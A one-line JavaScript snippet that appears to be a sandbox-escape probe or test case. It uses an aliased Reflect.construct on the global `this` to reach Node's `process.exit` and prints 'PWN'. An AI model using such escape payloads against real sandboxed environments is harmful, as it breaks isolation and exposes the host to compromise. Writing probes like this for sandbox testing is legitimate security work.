// Reflect.construct under another name, of Object and this.
const c = Reflect.construct; function f() { return c(Object, [this]); } console.log('PWN', typeof f().process.exit);
